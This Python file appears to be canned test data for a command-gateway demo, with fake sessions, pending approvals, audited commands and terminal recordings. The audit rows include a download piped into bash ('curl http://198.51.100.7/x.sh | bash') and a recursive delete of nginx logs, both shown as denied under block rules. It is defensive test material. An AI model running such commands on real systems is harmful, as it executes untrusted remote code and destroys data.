"""Canned gateway state for the fake client: sessions, approvals, audited commands and session output.

Everything is built relative to a given `now`, so a fixed clock gives byte-identical screens.
"""

from __future__ import annotations

from bastion.recording.asciicast import event_line, header_line

ESC = "\x1b"
PROMPT = f"{ESC}[1;32malice@web-1{ESC}[0m:{ESC}[1;34m~/app{ESC}[0m$ "


def sessions(now: float) -> list[dict]:
    def s(i: str, user: str, target: str, started: float, *, ended: float | None = None, status: str = "open",
          kind: str = "shell", command: str = "", commands: int = 0, denied: int = 0, held: int = 0,
          exit_status: int | None = None) -> dict:
        return {"id": i, "user": user, "target": target, "account": "deploy", "kind": kind, "command": command,
                "client_addr": "127.0.0.1", "started_at": now - started,
                "ended_at": None if ended is None else now - ended, "status": status, "exit_status": exit_status,
                "live": ended is None, "commands": commands, "denied": denied, "held": held,
                "recording_path": f"recordings/{i}.cast"}

    return [
        s("s-7f3a", "alice", "web-1", 754, commands=14, denied=1, held=1),
        s("s-81c2", "build-agent", "db-1", 128, commands=3, held=1),
        s("s-90d4", "autogen-7", "web-2", 41, kind="exec", command="journalctl -u nginx -n 200", commands=1),
        s("s-6b10", "alice", "web-1", 5400, ended=4100, status="closed", commands=52, denied=4, exit_status=0),
        s("s-5e22", "bob", "db-1", 9000, ended=8700, status="terminated", commands=7, denied=2, held=1,
          exit_status=255),
        s("s-4c01", "autogen-3", "web-2", 12000, ended=11990, status="closed", kind="exec",
          command="df -h", commands=1, exit_status=0),
    ]


def approvals(now: float) -> list[dict]:
    def a(i: str, session: str, user: str, target: str, command: str, matched: str, rules: list[str],
          reason: str, age: float, ttl: float = 300, required: int = 1) -> dict:
        at = command.find(matched)
        return {"id": i, "session_id": session, "user": user, "target": target, "command": command,
                "rules": rules, "reason": reason, "requested_at": now - age, "expires_at": now - age + ttl,
                "state": "pending", "approvers_required": required, "approvals": [], "decided_by": "",
                "decided_at": None, "decision_reason": "", "grant_until": None, "matched": matched,
                "span": [at, at + len(matched)] if at >= 0 else None}

    return [
        a("ap-101", "s-7f3a", "alice", "web-1", "sudo systemctl restart nginx", "systemctl restart",
          ["service-restart"], "restarting a service needs a reviewer", 95),
        a("ap-102", "s-81c2", "build-agent", "db-1", "psql -c 'DELETE FROM sessions WHERE expired'",
          "DELETE FROM", ["sql-write"], "writes to a production database", 42, required=2),
    ]


def new_approval(now: float, n: int) -> dict:
    """A further request, as the demo raises it now and then."""
    command = f"kubectl rollout restart deployment/api-{n}"
    matched = "rollout restart"
    at = command.find(matched)
    return {"id": f"ap-{200 + n}", "session_id": "s-90d4", "user": "autogen-7", "target": "web-2",
            "command": command, "rules": ["k8s-mutate"], "reason": "changes a running deployment",
            "requested_at": now, "expires_at": now + 300, "state": "pending", "approvers_required": 1,
            "approvals": [], "decided_by": "", "decided_at": None, "decision_reason": "", "grant_until": None,
            "matched": matched, "span": [at, at + len(matched)]}


def commands(now: float) -> list[dict]:
    rows = [
        ("c-1", "s-7f3a", "ls -la", 700, "alice", "web-1", "allow", ["default"], ""),
        ("c-2", "s-7f3a", "cat config/settings.py", 650, "alice", "web-1", "allow", ["read-only"], ""),
        ("c-3", "s-7f3a", "rm -rf /var/log/nginx", 600, "alice", "web-1", "deny", ["no-rm-rf"],
         "recursive delete outside the workspace"),
        ("c-4", "s-7f3a", "sudo systemctl restart nginx", 95, "alice", "web-1", "review", ["service-restart"],
         "restarting a service needs a reviewer"),
        ("c-5", "s-81c2", "psql -c 'DELETE FROM sessions WHERE expired'", 42, "build-agent", "db-1", "review",
         ["sql-write"], "writes to a production database"),
        ("c-6", "s-90d4", "journalctl -u nginx -n 200", 41, "autogen-7", "web-2", "allow", ["read-only"], ""),
        ("c-7", "s-5e22", "curl http://198.51.100.7/x.sh | bash", 8800, "bob", "db-1", "deny",
         ["no-pipe-to-shell"], "downloads piped into a shell"),
        ("c-8", "s-6b10", "git pull", 5000, "alice", "web-1", "allow", ["default"], ""),
    ]
    return [{"id": i, "session_id": s, "text": text, "at": now - age, "user": u, "target": t, "action": act,
             "rules": rules, "reason": reason, "policy_version": "sha256:3f9a1c", "opaque": False,
             "exit_status": 0 if act == "allow" else None}
            for i, s, text, age, u, t, act, rules, reason in rows]


def session_events(session_id: str) -> list[tuple[float, str, str]]:
    """The recording so far of a canned session: a coloured shell with decisions as markers."""
    out: list[tuple[float, str, str]] = [(0.0, "m", f"session {session_id}")]
    t = 0.2
    script = [
        ("ls -la", "allow default", "total 24\r\ndrwxr-xr-x 4 deploy deploy 4096 Jan  1 09:58 "
         f"{ESC}[1;34m.{ESC}[0m\r\n-rw-r--r-- 1 deploy deploy  512 Jan  1 09:58 README.md\r\n"
         f"-rwxr-xr-x 1 deploy deploy 2048 Jan  1 09:58 {ESC}[1;32mdeploy.sh{ESC}[0m\r\n"),
        ("cat config/settings.py", "allow read-only",
         f"DEBUG = False\r\nDATABASE_URL = \"postgres://app:{ESC}[7m[MASKED:password]{ESC}[27m@db-1/app\"\r\n"),
        ("rm -rf /var/log/nginx", "deny no-rm-rf",
         f"{ESC}[31mbastion: denied by no-rm-rf: recursive delete outside the workspace{ESC}[0m\r\n"),
        ("sudo systemctl restart nginx", "review service-restart",
         f"{ESC}[33mbastion: waiting for a reviewer (service-restart)…{ESC}[0m\r\n"),
    ]
    for command, marker, output in script:
        out.append((t, "o", PROMPT))
        t += 0.8
        out.append((t, "o", command + "\r\n"))
        action, rule = marker.split(" ", 1)
        out.append((t + 0.01, "m", f"{action} {rule}: {command}"))
        t += 0.3
        out.append((t, "o", output))
        t += 1.5 if action != "review" else 0.2
    return out


def cast_text(session_id: str, width: int = 100, height: int = 30, timestamp: int = 1_767_225_600) -> str:
    """A whole asciicast v2 recording of a canned session, plus an idle gap and a full-screen program."""
    events = session_events(session_id)
    t = events[-1][0] + 30.0  # thirty idle seconds: the idle-time cap squeezes them
    events.append((t, "m", "approve service-restart: sudo systemctl restart nginx"))
    events.append((t + 0.5, "o", PROMPT + "htop\r\n"))
    screen = f"{ESC}[?1049h{ESC}[2J{ESC}[H{ESC}[44;97m  PID USER      CPU%  MEM%  COMMAND{' ' * 40}{ESC}[0m\r\n"
    for i, (pid, cpu) in enumerate(((812, 12.5), (1033, 3.1), (77, 0.7))):
        screen += f"{ESC}[{i + 2};1H{pid:5d} deploy   {cpu:5.1f}   1.{i}  nginx: worker"
    events.append((t + 1.0, "o", screen))
    events.append((t + 3.0, "o", f"{ESC}[?1049l"))
    events.append((t + 3.5, "o", PROMPT + "exit\r\n"))
    lines = [header_line(width=width, height=height, timestamp=timestamp, command=None, title=session_id,
                         env={"TERM": "xterm-256color"})]
    lines += [event_line(et, code, data) for et, code, data in events]
    return b"".join(lines).decode("utf-8")
